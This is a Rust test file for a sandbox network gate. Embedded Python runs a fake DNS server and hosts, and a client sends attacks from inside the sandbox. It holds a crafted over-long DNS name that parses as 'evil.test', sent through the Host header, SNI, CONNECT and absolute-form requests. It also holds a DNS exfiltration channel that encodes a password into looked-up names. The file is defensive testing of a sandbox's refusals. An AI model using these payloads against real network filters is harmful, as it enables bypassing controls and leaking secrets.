//! Attacks on allow-by-name through the names themselves (docs/network.md,
//! "Names" and "Names under a wildcard"): a malformed name that matches a
//! `*.` pattern, and the DNS channel through a `*.` pattern.
//!
//! Test safety: as `names.rs`, two test host namespaces on this machine.
//! `zone` serves the test DNS zone (`*.allowed.test` and `listed.test` to
//! itself, `evil.test` to `evil`) and writes every name it is asked to its
//! query log; both hosts answer plain HTTP on 80 and 443 and write every
//! connection to their marker.

use crate::net::names::NameHost;
use crate::require_env;

const SERVER: &str = r#"
import socket, sys, threading
ip, name, marker, zone, qlog = sys.argv[1:6]
zone = dict(kv.split("=") for kv in zone.split(",") if kv)
def mark(line):
    with open(marker, "a") as f:
        f.write(line + "\n")
def serve(port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((ip, port))
    s.listen(64)
    while True:
        c, _ = s.accept()
        mark("%s %d" % (name, port))
        def one(c=c):
            try:
                c.settimeout(5)
                c.recv(65536)
                body = ("hello from %s\n" % name).encode()
                c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
                c.close()
            except Exception:
                pass
        threading.Thread(target=one, daemon=True).start()
def lookup(n):
    if n in zone:
        return zone[n]
    for k, v in zone.items():
        if k.startswith("*.") and n.endswith(k[1:]):
            return v
def dns():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((ip, 53))
    while True:
        q, a = u.recvfrom(512)
        try:
            e, labels = 12, []
            while q[e] != 0:
                labels.append(q[e + 1:e + 1 + q[e]].decode("latin-1").lower())
                e += q[e] + 1
            qname = ".".join(labels)
            with open(qlog, "a") as f:
                f.write(repr(qname) + "\n")
            qtype = q[e + 1:e + 3]
            e += 5
            addr = lookup(qname)
            if addr and qtype == b"\x00\x01":
                ans = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + socket.inet_aton(addr)
                u.sendto(q[:2] + b"\x81\x80" + q[4:6] + b"\x00\x01\x00\x00\x00\x00" + q[12:e] + ans, a)
            else:
                u.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\x00\x00\x00\x00\x00\x00" + q[12:e], a)
        except Exception:
            pass
for p in (80, 443):
    threading.Thread(target=serve, args=(p,), daemon=True).start()
if zone:
    threading.Thread(target=dns, daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
"#;

/// Run inside the sandbox: one line per check, `NAME ok|err DETAIL`.
const CLIENT: &str = r#"
import socket, struct, sys
evil_ip = sys.argv[1]
# A 256-byte label starting with type A, class IN: a length byte of 256
# written as 0 would end the name at evil.test and make the rest the type.
attack = b"evil.test.\x00\x01\x00\x01" + b"a" * 252 + b".allowed.test"
def report(name, f):
    try:
        print("%s ok %r" % (name, f()), flush=True)
    except Exception as e:
        print("%s err %s" % (name, type(e).__name__), flush=True)
def talk(addr, port, data):
    s = socket.create_connection((addr, port), timeout=3)
    s.sendall(data)
    # Until the gate closes (a response may come in more than one read).
    d = b""
    while len(d) < 65536:
        try:
            b = s.recv(4096)
        except ConnectionResetError:
            if d:
                break
            raise
        if not b:
            break
        d += b
    if not d:
        raise EOFError()
    return d.decode(errors="replace").split("\r\n")[0] + " | " + d.decode(errors="replace").split("\r\n\r\n")[-1].strip()
def client_hello(name):
    sni = struct.pack("!BH", 0, len(name)) + name
    ext = struct.pack("!HHH", 0, len(sni) + 2, len(sni)) + sni
    body = b"\x03\x03" + b"\x07" * 32 + b"\x00" + b"\x00\x02\x13\x01\x01\x00" + struct.pack("!H", len(ext)) + ext
    hs = b"\x01\x00" + struct.pack("!H", len(body)) + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs
report("host", lambda: talk(evil_ip, 80, b"GET / HTTP/1.1\r\nHost: " + attack + b"\r\n\r\n"))
report("sni", lambda: talk(evil_ip, 443, client_hello(attack)))
report("connect", lambda: talk("169.254.255.2", 3128, b"CONNECT " + attack + b":443 HTTP/1.1\r\n\r\n"))
report("absolute", lambda: talk(evil_ip, 80, b"GET http://" + attack + b"/ HTTP/1.1\r\nHost: x.allowed.test\r\n\r\n"))
# The DNS channel: made-up names under *.allowed.test, looked up only.
for i in range(3):
    report("lookup%d" % i, lambda i=i: socket.gethostbyname("pw-hunter2-t%d.allowed.test" % i))
# Controls: a made-up name that a connection names is resolved then (and
# reaches the zone's host); an exact name is resolved at lookup.
report("conn-made-up", lambda: talk(evil_ip, 80, b"GET / HTTP/1.1\r\nHost: made-up-conn.allowed.test\r\n\r\n"))
report("listed", lambda: socket.gethostbyname("listed.test"))
"#;

fn field<'a>(out: &'a str, check: &str) -> &'a str {
    out.lines()
        .find(|l| l.split_whitespace().next() == Some(check))
        .unwrap_or("")
}

#[test]
fn malformed_names_and_wildcard_lookups_never_reach_upstream() {
    let (env, _g) = require_env!(shared);
    let base = env.dir("name-attacks");
    let k = (std::process::id() * 4 + 24) % 16000;
    let mut zone = NameHost::new(k);
    let mut evil = NameHost::new(k + 1);
    let qlog = base.join("queries");
    let _ = std::fs::remove_file(&qlog);
    let args = |h: &NameHost, name: &str, zone: &str| -> Vec<String> {
        vec![
            h.ip.clone(),
            name.to_string(),
            base.join(format!("marker-{name}")).display().to_string(),
            zone.to_string(),
            qlog.display().to_string(),
        ]
    };
    let z = format!(
        "*.allowed.test={a},listed.test={a},evil.test={e}",
        a = zone.ip,
        e = evil.ip
    );
    let za = args(&zone, "allowed.test", &z);
    zone.serve_with(SERVER, base.join("marker-allowed.test"), &za);
    let ea = args(&evil, "evil.test", "");
    evil.serve_with(SERVER, base.join("marker-evil.test"), &ea);
    let cfg = env.write_config(
        &base,
        &format!(
            "[profiles.wild.network]\ndns = [\"{}\"]\nhosts = [\"*.allowed.test\", \"listed.test\"]\n",
            zone.ip
        ),
    );
    let ws = env.dir("name-attacks-ws");
    let r = env
        .lz_in(&ws, "wild", &["python3", "-c", CLIENT, &evil.ip])
        .config_home(&cfg)
        .run();
    assert_eq!(r.code, 0, "{r:?}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    let queries = std::fs::read_to_string(&qlog).unwrap_or_default();

    // The attack name through Host, absolute-form and CONNECT: a 403
    // naming the reason; through SNI: a reset.
    for c in ["host", "connect", "absolute"] {
        let f = field(&r.stdout, c);
        assert!(
            f.contains(" ok ") && f.contains("403 Forbidden") && f.contains("longer than 253 bytes"),
            "{c}: {f:?}: {r:?}"
        );
    }
    assert!(field(&r.stdout, "sni").contains(" err "), "{r:?}");
    // Nothing reached evil.test, and nobody asked for it.
    assert_eq!(evil.marked(), "", "a connection reached evil.test: {r:?}");
    assert!(
        !queries.contains("evil"),
        "the gate asked upstream for evil.test: {queries}"
    );

    // Made-up names under the wildcard resolve (to synthetic addresses)
    // without a query upstream.
    for i in 0..3 {
        let f = field(&r.stdout, &format!("lookup{i}"));
        assert!(f.contains(" ok '100.127."), "lookup{i}: {f:?}: {r:?}");
    }
    assert!(
        !queries.contains("pw-hunter2"),
        "a lookup reached the authoritative server: {queries}"
    );
    // Controls: the query log works, a connection naming a made-up name
    // resolves it then, and an exact name resolves at lookup.
    assert!(
        field(&r.stdout, "conn-made-up").contains("hello from allowed.test"),
        "{r:?}"
    );
    assert!(queries.contains("'made-up-conn.allowed.test'"), "{queries}");
    assert!(queries.contains("'listed.test'"), "{queries}");
    assert!(field(&r.stdout, "listed").contains(" ok '100.127."), "{r:?}");
    assert!(zone.marked().contains("allowed.test 80"), "{}", zone.marked());

    // The refusals are logged with their reason (and shown escaped).
    let log = env
        .lz(&ws, &["net", "log", "--profile", "wild"])
        .config_home(&cfg)
        .run();
    assert_eq!(log.code, 0, "{log:?}");
    assert!(
        log.stdout.contains("longer than 253 bytes") && log.stdout.contains("evil.test."),
        "{log:?}"
    );
    assert!(!log.stdout.contains('\0'), "{log:?}");
}
